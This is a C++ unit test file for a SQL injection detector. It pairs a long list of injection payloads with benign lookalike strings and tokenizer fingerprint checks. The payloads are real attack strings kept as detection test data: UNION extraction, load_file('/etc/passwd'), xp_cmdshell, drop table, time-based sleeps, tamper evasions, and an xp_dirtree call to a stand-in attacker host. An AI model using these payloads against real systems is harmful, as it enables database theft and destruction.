// Tests of the tokenizing SQL injection detector. The attack list covers the injection families
// (tautology, UNION, stacked queries, time-based, error-based, boolean blind, ORDER BY probing) in
// the three contexts with evasions; the benign list is text that carries quotes, SQL words and
// operators without being SQL. Fingerprints in the tokenizer tests are derived by hand from the
// alphabet and folding rules documented in sqli.h and sqli.cc.
#include "mamori/detect/sqli.h"

#include <gtest/gtest.h>

#include <cstring>
#include <string>
#include <string_view>

#include "sqli_internal.h"

namespace mamori::detect {
namespace {

using sqli_internal::readSqli;

constexpr char kAsIs = 0;
constexpr char kSingle = '\'';
constexpr char kDouble = '"';

struct Attack {
  std::string_view value;
  char context;  // the context whose reading the injection takes: the quote it closes, or none
};

constexpr Attack kAttacks[] = {
    {R"v(' or 1=1--)v", kSingle},
    {R"v(' or 1=1#)v", kSingle},
    {R"v(' or 1=1/*)v", kSingle},
    {R"v(" or ""=")v", kDouble},
    {R"v(" or 1=1--)v", kDouble},
    {R"v(1 or 1=1)v", kAsIs},
    {R"v(1 or 1=1--)v", kAsIs},
    {R"v(-1 or 1=1)v", kAsIs},
    {R"v(1' or '1'='1)v", kSingle},
    {R"v(admin'--)v", kSingle},
    {R"v(admin' #)v", kSingle},
    {R"v(admin'/*)v", kSingle},
    {R"v(') or ('a'='a)v", kSingle},
    {R"v(') or '1'='1'--)v", kSingle},
    {R"v(admin') or ('1'='1'--)v", kSingle},
    {R"v(' or 'x'='x)v", kSingle},
    {R"v(' or ''=')v", kSingle},
    {R"v(1' or 1=1 limit 1--)v", kSingle},
    {R"v(' or true--)v", kSingle},
    {R"v(1 union select null,version()--)v", kAsIs},
    {R"v(-1' union all select 1,2,3#)v", kSingle},
    {R"v(-1 union select 1,2,3)v", kAsIs},
    {R"v(1/**/union/**/select/**/1,2)v", kAsIs},
    {R"v(-1 /*!50000union*/ /*!50000select*/ 1,2,3--)v", kAsIs},
    {R"v(1 UnIoN SeLeCt 1,@@version--)v", kAsIs},
    {R"v(' union select username, password from users--)v", kSingle},
    {R"v(1' union select null,table_name from information_schema.tables--)v", kSingle},
    {R"v(') union select 1,2--)v", kSingle},
    {R"v(1 union all select 1,concat(user(),0x3a,database())--)v", kAsIs},
    {R"v(1 union(select(1),(2)))v", kAsIs},
    {R"v('; drop table users--)v", kSingle},
    {R"v(1; drop table users)v", kAsIs},
    {R"v(1;waitfor delay '0:0:5'--)v", kAsIs},
    {R"v('; exec master..xp_cmdshell 'dir'--)v", kSingle},
    {R"v(1'; waitfor delay '0:0:5'--)v", kSingle},
    {R"v('; shutdown--)v", kSingle},
    {R"v(1; select pg_sleep(5)--)v", kAsIs},
    {R"v(1 and sleep(5))v", kAsIs},
    {R"v(1 and sleep(5)--)v", kAsIs},
    {R"v(' or sleep(5)#)v", kSingle},
    {R"v(' or benchmark(10000000,md5(1))#)v", kSingle},
    {R"v(1) or pg_sleep(5)--)v", kAsIs},
    {R"v(1' and sleep(5) and '1'='1)v", kSingle},
    {R"v(' and (select * from (select(sleep(5)))a)--)v", kSingle},
    {R"v(1' waitfor delay '0:0:5'--)v", kSingle},
    {R"v(1 and extractvalue(1,concat(0x7e,version())))v", kAsIs},
    {R"v(' and extractvalue(1,concat(0x7e,(select version())))--)v", kSingle},
    {R"v(1 and updatexml(1,concat(0x7e,user()),1))v", kAsIs},
    {R"v(' and updatexml(null,concat(0x3a,database()),null)--)v", kSingle},
    {R"v(1 and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a))v",
     kAsIs},
    {R"v(1 and 1=2)v", kAsIs},
    {R"v(1 and 1=1)v", kAsIs},
    {R"v(' and substring(@@version,1,1)='5)v", kSingle},
    {R"v(1' and ascii(substring((select database()),1,1))>64--)v", kSingle},
    {R"v(1 and ascii(substr(user(),1,1))=114)v", kAsIs},
    {R"v(' and 'a'='a)v", kSingle},
    {R"v(' and 1=0--)v", kSingle},
    {R"v(1 order by 10--)v", kAsIs},
    {R"v(1' order by 3--+)v", kSingle},
    {R"v(1' order by 1#)v", kSingle},
    {R"v(' group by 1,2--)v", kSingle},
    {R"v(1' order by 5-- -)v", kSingle},
    {R"v(' or 1=1--+)v", kSingle},
    {R"v(1' or 1=1 -- -)v", kSingle},
    {R"v(' or 'a'='a'#)v", kSingle},
    {R"v(admin' or '1'='1'/*)v", kSingle},
    {R"v(1 or 1=1#)v", kAsIs},
    {R"v(1) or (1=1)v", kAsIs},
    {R"v(1)) or ((1=1)v", kAsIs},
    {R"v(1' or '1'='1'))--)v", kSingle},
    {R"v('||')v", kSingle},
    {R"v('||(select version())||')v", kSingle},
    {R"v(' + (select top 1 name from sysobjects) + ')v", kSingle},
    {R"v('+sleep(5)+')v", kSingle},
    {R"v(1' and 1=(select count(*) from users)--)v", kSingle},
    {R"v(' or exists(select * from users)--)v", kSingle},
    {R"v(1 and exists(select 1))v", kAsIs},
    {R"v(1 xor sleep(5))v", kAsIs},
    {R"v(0'xor(if(now()=sysdate(),sleep(5),0))xor'z)v", kSingle},
    {R"v(' and @@version like '5%)v", kSingle},
    {R"v(1' and (select substring(@@version,1,1))='5'--)v", kSingle},
    {R"v('=')v", kSingle},
    {R"v(' or username like '%)v", kSingle},
    {R"v(x' or 1=1 or 'x'='y)v", kSingle},
    {R"v(1' and '1'='2)v", kSingle},
    {R"v(' or 1 --)v", kSingle},
    {R"v(1 or true--)v", kAsIs},
    {R"v(1 and 1=1 union select 1)v", kAsIs},
    {R"v(' having 1=1--)v", kSingle},
    {R"v(' union select load_file('/etc/passwd')--)v", kSingle},
    {R"v(' union select 1 into outfile '/tmp/x'--)v", kSingle},
    {R"v(1;declare @x varchar(99) set @x='a' exec(@x)--)v", kAsIs},
    {R"v(' or 'a'='a' or ')v", kSingle},
    {R"v(1' or 1=1 or ''=')v", kSingle},
    {R"v(' or (1)=(1)--)v", kSingle},
    {R"v("; drop table users--)v", kDouble},
    {R"v(" union select 1,2--)v", kDouble},
    {R"v(" or sleep(5)#)v", kDouble},
    {R"v(1 or 1 like 1)v", kAsIs},
    {R"v(-1 or 1 between 0 and 2)v", kAsIs},
    {R"v(' or char(65)=char(65)--)v", kSingle},
    {R"v(1' and char_length(database())>1--)v", kSingle},
    {R"v(1' or '1'='1' --)v", kSingle},
    {R"v(' or 1=1 limit 1 -- -+)v", kSingle},
    {R"v(' or '1'='1' /*)v", kSingle},
    {R"v('or'1'='1)v", kSingle},
    {R"v('or 1#)v", kSingle},
    {R"v(or 1=1)v", kAsIs},
    {R"v(or 1=1--)v", kAsIs},
    {R"v(' or 'one'='one)v", kSingle},
    {R"v(' or uid like '%)v", kSingle},
    {R"v(1' and 1=1#)v", kSingle},
    {R"v(1 and 1=1#)v", kAsIs},
    {R"v(1' and '1'='1)v", kSingle},
    {R"v(1 and user())v", kAsIs},
    {R"v(1 and 1 in (select @@version))v", kAsIs},
    {R"v(-1 union select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()--)v",
     kAsIs},
    {R"v(999999.9 union all select 0x31303235343830303536,0x31303235343830303536--)v", kAsIs},
    {R"v(1' union select 1,2,3,4,5,6,7,8--)v", kSingle},
    {R"v(1) union all select null,null,null--)v", kAsIs},
    {R"v(')) union select 1--)v", kSingle},
    {R"v(" union all select null#)v", kDouble},
    {R"v(1 union select 1 from dual--)v", kAsIs},
    {R"v(-1 union select * from users)v", kAsIs},
    {R"v(1'; select sleep(5)#)v", kSingle},
    {R"v(1); waitfor delay '0:0:10'--)v", kAsIs},
    {R"v('; insert into users values('a','b')--)v", kSingle},
    {R"v(1; update users set pass='x' where id=1--)v", kAsIs},
    {R"v('; truncate table logs--)v", kSingle},
    {R"v(1' and sleep(5)#)v", kSingle},
    {R"v(1' and benchmark(5000000,sha1(1))--)v", kSingle},
    {R"v(1 and (select sleep(5)))v", kAsIs},
    {R"v(1'||pg_sleep(10)--)v", kSingle},
    {R"v(1;select pg_sleep(10))v", kAsIs},
    {R"v(' and 1=convert(int,(select top 1 name from sysobjects))--)v", kSingle},
    {R"v(1 and 1=cast((select version()) as int))v", kAsIs},
    {R"v(' and extractvalue(rand(),concat(0x3a,(select user())))-- -)v", kSingle},
    {R"v(1 and gtid_subset(version(),1))v", kAsIs},
    {R"v(' or updatexml(1,concat(0x7e,database()),0) or ')v", kSingle},
    {R"v(1 and row(1,1)>(select count(*),concat(version(),0x3a,floor(rand()*2))x from (select 1 union select 2)a group by x limit 1))v",
     kAsIs},
    {R"v(1 and substring(version(),1,1)=5)v", kAsIs},
    {R"v(1 and length(database())=8)v", kAsIs},
    {R"v(' and ascii(lower(substring((select top 1 name from sysobjects),1,1)))>116--)v", kSingle},
    {R"v(1 and if(1=1,sleep(5),0))v", kAsIs},
    {R"v(' and if(ascii(substr(database(),1,1))>97,sleep(3),0)--+)v", kSingle},
    {R"v(1 rlike (select (case when (1=1) then 1 else 0x28 end)))v", kAsIs},
    {R"v(' or 1 regexp 1 --)v", kSingle},
    {R"v(1 or 'a'='a)v", kAsIs},
    {R"v(admin' or 1 --)v", kSingle},
    {R"v(admin')--)v", kSingle},
    {R"v(admin")--)v", kDouble},
    {R"v(admin" #)v", kDouble},
    {R"v(1" or "1"="1)v", kDouble},
    {R"v(") or ("a"="a)v", kDouble},
    {R"v(1 order by 1,2,3--)v", kAsIs},
    {R"v(1' group by 1--+)v", kSingle},
    {R"v(' order by 100#)v", kSingle},
    {R"v(1' and 1=2 union select 1,2--)v", kSingle},
    {R"v('; exec xp_cmdshell('ping 10.0.0.1')--)v", kSingle},
    {R"v('; declare @q varchar(8000) select @q=0x73 exec(@q)--)v", kSingle},
    {R"v(1;exec master..xp_dirtree '\\attacker\x'--)v", kAsIs},
    {R"v(' union select null,null,null from dual--)v", kSingle},
    {R"v('/**/or/**/1=1--)v", kSingle},
    {R"v('/*!or*/1=1--)v", kSingle},
    {R"v(1/*!00000and*/1=1)v", kAsIs},
    {R"v(-1' union select 1,load_file('/etc/passwd'),3--)v", kSingle},
    {R"v(' or 1 in (select @@version)--)v", kSingle},
    {R"v(' and (select count(*) from users)>0--)v", kSingle},
    {R"v(1 and exists(select * from users))v", kAsIs},
    {R"v(' and 1=(select 1)--)v", kSingle},
    {R"v(1 and 0x41=0x41)v", kAsIs},
    {R"v(1 || 1=1)v", kAsIs},
    {R"v(1' && '1'='1)v", kSingle},
    {R"v(1' xor '1'='0)v", kSingle},
    {R"v(' or not 1=2--)v", kSingle},
    {R"v(1 and not 1=2)v", kAsIs},
    {R"v(1' or 'a' like 'a)v", kSingle},
};

constexpr std::string_view kBenign[] = {
    R"v(o'reilly)v",
    R"v(rock 'n' roll)v",
    R"v(select a plan)v",
    R"v(union station)v",
    R"v(drop-down menu)v",
    R"v(1-2 of 10)v",
    R"v(it's 5 o'clock)v",
    R"v(order by price)v",
    R"v(mary's cafe & bar)v",
    R"v(and or not)v",
    R"v(where is my order)v",
    R"v(c++ programming)v",
    R"v(100% cotton)v",
    R"v(john.doe@example.com)v",
    R"v(first.last+tag@mail.example.co.jp)v",
    R"v(2024-01-02)v",
    R"v(2024-01-02t10:20:30z)v",
    R"v(https://example.com/path/to/page?x=1&y=2)v",
    R"v(http://www.example.org/index.php)v",
    R"v({"a":1})v",
    R"v({"name":"o'neil","age":30})v",
    R"v(["a","b"])v",
    R"v(report_2024.pdf)v",
    R"v(how to select from table in sql)v",
    R"v(10 or more)v",
    R"v(mary-jane o'connor)v",
    R"v(1.2.3)v",
    R"v(v2.10.1-beta)v",
    R"v(+1 (555) 123-4567)v",
    R"v(03-1234-5678)v",
    R"v(dgvzdcbzdhjpbmc=)v",
    R"v(ywjjzgvmz2hpamtsbw5vcheyc3r1dnd4ewo=)v",
    R"v(123e4567-e89b-12d3-a456-426614174000)v",
    R"v(5d41402abc4b2a76b9719d911017c592)v",
    R"v(da39a3ee5e6b4b0d3255bfef95601890afd80709)v",
    R"v(don't stop believin')v",
    R"v(tom's and jerry's)v",
    R"v(the students' and teachers' lounge)v",
    R"v(parents' or guardians' consent)v",
    R"v(i'm 5' 11" tall)v",
    R"v(5'6" - 6'2")v",
    R"v('90s and '80s music)v",
    R"v(the 'best' and 'worst' of times)v",
    R"v("quoted" search)v",
    R"v(she said "hello" and left)v",
    R"v(rock' n 'roll)v",
    R"v(sql union select syntax)v",
    R"v(delete my account)v",
    R"v(update your profile)v",
    R"v(insert coin)v",
    R"v(1; 2; 3)v",
    R"v(a=1; b=2)v",
    R"v(price >= 100 and price <= 200)v",
    R"v(x = y + z)v",
    R"v(name = 'bob')v",
    R"v(it's 100% free -- no strings attached)v",
    R"v(chapter 1 -- introduction)v",
    R"v(item #5)v",
    R"v(c# and f# developers)v",
    R"v(#hashtag)v",
    R"v(/* comment */)v",
    R"v(select * from where)v",
    R"v(i love sql; select is my favourite keyword)v",
    R"v(not a number)v",
    R"v(is null or empty)v",
    R"v(true or false)v",
    R"v(yes or no)v",
    R"v(1 or 2)v",
    R"v(between 1 and 10)v",
    R"v(like new)v",
    R"v(sleep well)v",
    R"v(benchmark results 2024)v",
    R"v(version 2.0)v",
    R"v(user@host)v",
    R"v(@username)v",
    R"v(foo bar baz)v",
    R"v(lorem ipsum dolor sit amet, consectetur adipiscing elit)v",
    R"v(l'hôtel de ville)v",
    R"v(日本語のテキスト)v",
    R"v(naïve café)v",
    R"v(q=select+a+plan)v",
    R"v(10% off; today only)v",
    R"v(size: 10-12)v",
    R"v(3 x 4 = 12)v",
    R"v(1+1=2)v",
    R"v(a && b)v",
    R"v(a || b)v",
    R"v((optional))v",
    R"v((555) 555-1212)v",
    R"v(mcdonald's)v",
    R"v(o'neil & sons)v",
    R"v(it's a dog's life)v",
    R"v('hello')v",
    R"v("hello")v",
    R"v(`code`)v",
    R"v([brackets])v",
    R"v(user's guide (2nd ed.))v",
    R"v(ceo's 2024 report; final)v",
    R"v(2 or 3 bedrooms)v",
    R"v(45' boat for sale)v",
    R"v(18" x 24" frame)v",
    R"v(the '60s)v",
    R"v(12 o'clock; lunch)v",
    R"v(women's shoes size 8)v",
    R"v(kids' toys & games)v",
    R"v(jack o'lantern)v",
    R"v(d'artagnan)v",
    R"v(o'brien, sean)v",
    R"v(it's raining; bring an umbrella)v",
    R"v(can't stop, won't stop)v",
    R"v(don't select this option)v",
    R"v(we're #1)v",
    R"v(50% off - limited time)v",
    R"v(price: $19.99 (was $29.99))v",
    R"v(rock & roll hall of fame)v",
    R"v(fish 'n' chips)v",
    R"v("the godfather" 1972)v",
    R"v(best of 2023: top 10)v",
    R"v(summer sale 2024/06/01 - 2024/06/30)v",
    R"v(select your country)v",
    R"v(union pacific railroad)v",
    R"v(the union of two sets)v",
    R"v(drop shipping business)v",
    R"v(delete key not working)v",
    R"v(update windows 11)v",
    R"v(insert tab in word)v",
    R"v(create account)v",
    R"v(alter table tutorial)v",
    R"v(from russia with love)v",
    R"v(where the wild things are)v",
    R"v(order by date desc)v",
    R"v(group by category)v",
    R"v(and then there were none)v",
    R"v(or else what)v",
    R"v(not found)v",
    R"v(true story)v",
    R"v(null pointer exception)v",
    R"v(sleep(ing) beauty)v",
    R"v(how to use substring in python)v",
    R"v(count of monte cristo)v",
    R"v(max power)v",
    R"v(user-agent)v",
    R"v(version: 1.0.0)v",
    R"v(1 of 2)v",
    R"v(page 2 of 10)v",
    R"v(2 and 1/2 men)v",
    R"v(10 and under)v",
    R"v(3 or 4 people)v",
    R"v(1 or more items)v",
    R"v(18 and over only)v",
    R"v(1 + 1 = 2 math)v",
    R"v(x=1 y=2)v",
    R"v(a = b)v",
    R"v(a - b)v",
    R"v((a) or (b))v",
    R"v(isn't it? yes or no)v",
    R"v(what's new)v",
    R"v(you're welcome)v",
    R"v(it's 'quoted' text)v",
    R"v('single' quotes)v",
    R"v(don't do it -- seriously)v",
    R"v(n'djamena)v",
    R"v(ca' d'oro)v",
    R"v(y'all)v",
    R"v(rock'n'roll)v",
    R"v(ma'am)v",
    R"v(l'oréal paris)v",
    R"v(shaquille o'neal)v",
    R"v(i'd like 2)v",
    R"v(he said 'hi' or 'hello')v",
    R"v(the '80s or '90s)v",
    R"v(5' or 6' tall)v",
    R"v(1'2")v",
    R"v(a'b'c)v",
    R"v(' leading apostrophe)v",
    R"v(trailing apostrophe')v",
    R"v('')v",
    R"v(')v",
    R"v(")v",
    R"v(;)v",
    R"v(--)v",
    R"v(#)v",
    R"v(/*)v",
    R"v(*/)v",
    R"v(())v",
    R"v(1;)v",
    R"v(1))v",
    R"v(mailto:someone@example.com)v",
    R"v(ftp://files.example.net/pub/file.tar.gz)v",
    R"v(/var/www/html/index.html)v",
    R"v(c:\users\public\documents)v",
    R"v(src/*/*.c)v",
    R"v(**/*.js)v",
    R"v(a/**/b)v",
    R"v(<div class="x">hello</div>)v",
    R"v(${HOME}/bin)v",
    R"v($1,000)v",
    R"v(+81 3-1234-5678)v",
    R"v(2001:db8::1)v",
    R"v(192.168.0.1)v",
    R"v(aa:bb:cc:dd:ee:ff)v",
    R"v(eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U)v",
    R"v(sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08)v",
    R"v(#ff0000)v",
    R"v(rgb(255, 0, 0))v",
    R"v(max(1, 2))v",
    R"v(count(*))v",
    R"v(f(x) = x^2 + 1)v",
    R"v(sin(x) + cos(y))v",
    R"v(if (x > 1) { y = 2; })v",
    R"v(print("hello, world"))v",
    R"v(select(3))v",
    R"v(sum: 10, avg: 2.5)v",
    R"v(=))v",
    R"v(:-))v",
    R"v(;-))v",
    R"v(<3)v",
    R"v(the players' #1 pick)v",
    R"v(kids' -- toys)v",
    R"v(1 or 2 -- see below)v",
    // Lookalikes of the shapes added for tamper scripts and function calls.
    R"v(select case when sql)v",
    R"v(1 having fun)v",
    R"v(if (a = 1, b))v",
    R"v(if(a=1,b,c))v",
    R"v(round(2.5) = 3)v",
    R"v(power (watts) or torque)v",
    R"v(%s and %d)v",
    R"v(%A%B%C)v",
    R"v(50%off)v",
    R"v(100% cotton; 0% polyester)v",
    R"v(rock && roll)v",
    R"v(1 && 2)v",
    R"v(5 from 10 = half)v",
    R"v(select (case study))v",
    R"v(position: absolute)v",
    R"v(a/**/b)v",
    "tab\tseparated\tvalues",
    "caf\xc3\xa9\xc2\xa0" "au lait",
    "a\x01" "b\x02" "c",
};

std::string_view fingerprintOf(const SqliResult& r) {
  return r.fingerprint.data();
}

std::string contextName(char c) {
  return c == 0 ? "as-is" : std::string(1, c);
}

TEST(SqliAttacks, AllDetectedInTheirContext) {
  static_assert(std::size(kAttacks) >= 80);
  std::size_t detected = 0;
  for (const Attack& a : kAttacks) {
    const SqliResult r = detectSqli(a.value);
    EXPECT_TRUE(r.injection) << "missed: " << a.value
                             << "  (readings: " << readSqli(a.value, kAsIs).text() << " / "
                             << readSqli(a.value, kSingle).text() << " / "
                             << readSqli(a.value, kDouble).text() << ")";
    if (!r.injection) continue;
    ++detected;
    EXPECT_EQ(contextName(r.context), contextName(a.context)) << a.value;
    EXPECT_EQ(r.fingerprint.back(), '\0');
    EXPECT_GE(std::strlen(r.fingerprint.data()), 2u) << a.value;
    // The reported fingerprint is the one of the reported reading.
    EXPECT_EQ(fingerprintOf(r), readSqli(a.value, r.context).text()) << a.value;
  }
  EXPECT_EQ(detected, std::size(kAttacks));
}

TEST(SqliAttacks, UppercaseAndWhitespaceVariants) {
  for (const std::string_view v : {
           std::string_view("1 UNION SELECT 1,2--"),
           std::string_view("' OR 1=1--"),
           std::string_view("1' AnD SlEeP(5)#"),
           std::string_view("1\tand\t1=2"),
           std::string_view("1'\tor\t'1'='1"),
           std::string_view("1\nunion\nselect\n1,2"),
           std::string_view("'\r\nor\r\n1=1--"),
           std::string_view("1\vor\f1=1"),
           std::string_view("-1'/**/UNION/**/ALL/**/SELECT/**/NULL,@@VERSION#"),
           std::string_view("1 /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2"),
       }) {
    EXPECT_TRUE(detectSqli(v).injection) << v;
  }
}

// sqlmap tamper scripts and dialect forms the tokenizer reads as the database would: control
// characters and a Latin-1 no-break space as spaces, ASP's dropped '%', keywords rebuilt across
// comments by filters that delete them, functions and HAVING/CASE forms.
TEST(SqliAttacks, TamperScriptsAndDialectForms) {
  struct Case {
    std::string_view value;
    char context;
    std::string_view fingerprint;
  };
  const Case cases[] = {
      {"1\x01"
       "and\x0b"
       "5678=5678",
       kAsIs, "1&1o1"},
      {"1\xa0"
       "and\xa0"
       "5678=5678",
       kAsIs, "1&1o1"},
      {"1 %a%n%d 5678=5678", kAsIs, "1&1o1"},
      {"-1 %u%n%i%o%n %s%e%l%e%c%t 1,2", kAsIs, "1UE1,"},
      {"1 u/**/nion s/**/e/**/lect 1,2", kAsIs, "1UE1,"},
      {"1 having 1=1--", kAsIs, "1k1o1"},
      {"if(1=1,sleep(5),0)", kAsIs, "f(1o1"},
      {"(select (case when (1=1) then 1 else 2 end))", kAsIs, "E(W(1"},
      {"1 and get_lock('a',5)", kAsIs, "1&f(s"},
      {"1 and json_extract('{}','$.a')=1", kAsIs, "1&f(s"},
      {"'=0--+", kSingle, "so1c"},
  };
  for (const Case& c : cases) {
    const SqliResult r = detectSqli(c.value);
    EXPECT_TRUE(r.injection) << c.value;
    EXPECT_EQ(contextName(r.context), contextName(c.context)) << c.value;
    EXPECT_EQ(fingerprintOf(r), c.fingerprint) << c.value;
  }
  // A UTF-8 no-break space (C2 A0) is part of the text, not a separator.
  EXPECT_EQ(readSqli("1\xc2\xa0"
                     "and 1=1",
                     kAsIs)
                .text(),
            "1n1o1");
  // Fragments that do not make a keyword stay apart.
  EXPECT_EQ(readSqli("a/**/b", kAsIs).text(), "nn");
}

TEST(SqliBenign, NoneDetected) {
  static_assert(std::size(kBenign) >= 60);
  for (const std::string_view v : kBenign) {
    const SqliResult r = detectSqli(v);
    EXPECT_FALSE(r.injection) << "false positive: " << v << "  fingerprint " << fingerprintOf(r)
                              << " context " << contextName(r.context);
    if (!r.injection) {
      EXPECT_EQ(fingerprintOf(r), "");
      EXPECT_EQ(r.context, 0);
    }
  }
}

// Fingerprints derived from the rules: numbers '1', UNION 'U', SELECT 'E', comma ',' ...
TEST(SqliFingerprint, CanonicalShapes) {
  EXPECT_EQ(readSqli("1 union select 1", kAsIs).text(), "1UE1");
  // UNION ALL is one token; a sixth token is cut off.
  EXPECT_EQ(readSqli("1 union all select 1,2,3", kAsIs).text(), "1UE1,");
  // Leading sign and parentheses are stripped; comments between tokens vanish.
  EXPECT_EQ(readSqli("((-1/**/union/**/select 1", kAsIs).text(), "1UE1");
  EXPECT_EQ(readSqli("1 order by 10--", kAsIs).text(), "1B1c");
  EXPECT_EQ(readSqli("1 and sleep(5)", kAsIs).text(), "1&f(1");
  // A function name not called is a bare word.
  EXPECT_EQ(readSqli("sleep well", kAsIs).text(), "nn");
  // In the single-quote context the value's first part is the application's string.
  EXPECT_EQ(readSqli("1' or '1'='1", kSingle).text(), "s&sos");
  EXPECT_EQ(readSqli("admin'--", kSingle).text(), "sc");
  EXPECT_EQ(readSqli("1;drop table users", kAsIs).text(), "1;En");
  EXPECT_EQ(readSqli("1;waitfor delay '0:0:5'", kAsIs).text(), "1;Es");
  // Arithmetic between operands folds into one operand; comparison does not.
  EXPECT_EQ(readSqli("1-1", kAsIs).text(), "1");
  EXPECT_EQ(readSqli("1 - -1 = 0", kAsIs).text(), "1o1");
  EXPECT_EQ(readSqli("1 and not 1=2", kAsIs).text(), "1&1o1");
  // Adjacent strings are one string (ANSI concatenation).
  EXPECT_EQ(readSqli("'a' 'b'", kAsIs).text(), "s");
  EXPECT_EQ(readSqli("1 || 1 && 1", kAsIs).text(), "1&1&1");
  EXPECT_EQ(readSqli("a.b.c(1)", kAsIs).text(), "f(1)");
  EXPECT_EQ(readSqli("1 is not null", kAsIs).text(), "1o1");
  EXPECT_EQ(readSqli("@@version @x", kAsIs).text(), "vv");
  EXPECT_EQ(readSqli("`select` [union]", kAsIs).text(), "nn");
}

TEST(SqliTokenizer, Numbers) {
  for (const std::string_view v : {"0x7e", "1e5", ".5", "1.5e-3", "0b101", "12.", "1E+10"}) {
    EXPECT_EQ(readSqli(v, kAsIs).text(), "1") << v;
  }
  EXPECT_EQ(readSqli("0xzz", kAsIs).text(), "1n");
  EXPECT_EQ(readSqli("1union", kAsIs).text(), "1U");
  EXPECT_EQ(readSqli("1.2.3", kAsIs).text(), "11");
}

TEST(SqliTokenizer, Operators) {
  EXPECT_EQ(readSqli("1<>2", kAsIs).text(), "1o1");
  EXPECT_EQ(readSqli("1<=>2", kAsIs).text(), "1o1");
  EXPECT_EQ(readSqli("1!=2", kAsIs).text(), "1o1");
  EXPECT_EQ(readSqli("1||2", kAsIs).text(), "1&1");
  EXPECT_EQ(readSqli("1&&2", kAsIs).text(), "1&1");
  EXPECT_EQ(readSqli("@a:=1", kAsIs).text(), "vo1");
  EXPECT_EQ(readSqli("1 div 2 mod 3", kAsIs).text(), "1");
  EXPECT_EQ(readSqli("1 like 2", kAsIs).text(), "1o1");
  EXPECT_EQ(readSqli("1 not like 2", kAsIs).text(), "1o1");
}

TEST(SqliTokenizer, Strings) {
  // Unterminated string runs to the end.
  EXPECT_EQ(readSqli("'abc or 1=1", kAsIs).text(), "s");
  EXPECT_EQ(readSqli("abc", kSingle).text(), "s");
  // Doubled quotes and backslashes escape; the string goes on.
  EXPECT_EQ(readSqli("o''reilly' or 1=1--", kSingle).text(), "s&1o1");
  EXPECT_EQ(readSqli("a\\' or 1=1--", kSingle).text(), "s");
  EXPECT_EQ(readSqli("\"a\"\"b\" 1", kAsIs).text(), "s1");
  // N'', X'', E'' prefixes are strings.
  EXPECT_EQ(readSqli("n'abc' x'41'", kAsIs).text(), "s");
  // "s&s" is an injection only when the last string is left for the application to close.
  EXPECT_TRUE(readSqli("a' or 'b", kSingle).injection);
  EXPECT_EQ(readSqli("a' or 'b'", kSingle).text(), "s&s");
  EXPECT_FALSE(readSqli("a' or 'b'", kSingle).injection);
  // Shapes starting with a string need the string opened by the context.
  EXPECT_EQ(readSqli("'a' or 'b", kAsIs).text(), "s&s");
  EXPECT_FALSE(readSqli("'a' or 'b", kAsIs).injection);
}

TEST(SqliTokenizer, Comments) {
  // MySQL: a block comment ends at the first "*/", nested openers are text.
  EXPECT_EQ(readSqli("1 /* a /* b */ union select 1", kAsIs).text(), "1UE1");
  // Unterminated block comment and line comments run to the end (of line).
  EXPECT_EQ(readSqli("1 /* union select 1", kAsIs).text(), "1c");
  EXPECT_EQ(readSqli("1--x\nunion select 1", kAsIs).text(), "1UE1");
  EXPECT_EQ(readSqli("1 # x", kAsIs).text(), "1c");
  // Versioned comments are code, with or without a version; their "*/" is skipped.
  EXPECT_EQ(readSqli("1 /*!50000union*/ /*!select*/ 1", kAsIs).text(), "1UE1");
  EXPECT_EQ(readSqli("1 /*M!100000union select*/ 1", kAsIs).text(), "1UE1");
  // A stray "*/" outside a versioned comment is two operators.
  EXPECT_EQ(readSqli("1 */ 2", kAsIs).text(), "1");
  // Only a trailing comment counts, and only if there is room.
  EXPECT_EQ(readSqli("/**/1/**/", kAsIs).text(), "1c");
  EXPECT_EQ(readSqli("1,2,3--", kAsIs).text(), "1,1,1");
  // A comment that carries text does not cut off a query: "1 or 2 -- see below".
  EXPECT_FALSE(readSqli("kids' -- toys", kSingle).injection);
  EXPECT_TRUE(readSqli("kids' --+-", kSingle).injection);
}

TEST(SqliTokenizer, EmptyAndDegenerateInput) {
  const SqliResult empty = detectSqli("");
  EXPECT_FALSE(empty.injection);
  EXPECT_EQ(fingerprintOf(empty), "");
  EXPECT_EQ(readSqli("", kAsIs).text(), "");
  EXPECT_EQ(readSqli("", kSingle).text(), "s");
  EXPECT_EQ(readSqli("   \t\n", kAsIs).text(), "");
  EXPECT_EQ(readSqli("((((", kAsIs).text(), "");
  EXPECT_EQ(readSqli("--", kAsIs).text(), "c");
  EXPECT_FALSE(detectSqli("'").injection);
  EXPECT_FALSE(detectSqli("\"").injection);
  EXPECT_FALSE(detectSqli("/*!").injection);
}

TEST(SqliTokenizer, BinaryBytes) {
  std::string all;
  for (int i = 0; i < 256; ++i) all.push_back(static_cast<char>(i));
  for (std::size_t start = 0; start < all.size(); start += 7) {
    const std::string_view v = std::string_view(all).substr(start);
    const SqliResult r = detectSqli(v);
    EXPECT_EQ(r.fingerprint.back(), '\0');
    for (char context : {kAsIs, kSingle, kDouble}) {
      const auto reading = readSqli(v, context);
      EXPECT_LE(reading.size, kMaxSqliFingerprint);
      EXPECT_EQ(reading.fingerprint[reading.size], '\0');
    }
  }
  // NUL bytes inside a value are ordinary unknown bytes, not an end.
  EXPECT_TRUE(detectSqli(std::string_view("1 union select 1\0", 17)).injection);
}

TEST(SqliTokenizer, VeryLongInput) {
  constexpr std::size_t k64KiB = 64 * 1024;
  EXPECT_FALSE(detectSqli(std::string(k64KiB, 'a')).injection);
  EXPECT_FALSE(detectSqli(std::string(k64KiB, '(')).injection);
  EXPECT_FALSE(detectSqli(std::string(k64KiB, '\'')).injection);
  EXPECT_FALSE(detectSqli(std::string(k64KiB, '-')).injection);
  std::string stars = "/*";
  stars.append(k64KiB, '*');
  EXPECT_FALSE(detectSqli(stars).injection);
  std::string versioned;
  while (versioned.size() < k64KiB) versioned += "/*!";
  EXPECT_FALSE(detectSqli(versioned).injection);
  // Whitespace and comments before the injection are skipped, however many.
  std::string padded(k64KiB, ' ');
  padded += "1 union select 1";
  EXPECT_TRUE(detectSqli(padded).injection);
  std::string quoted(k64KiB, 'x');
  quoted += "' or 1=1--";
  EXPECT_TRUE(detectSqli(quoted).injection);
}

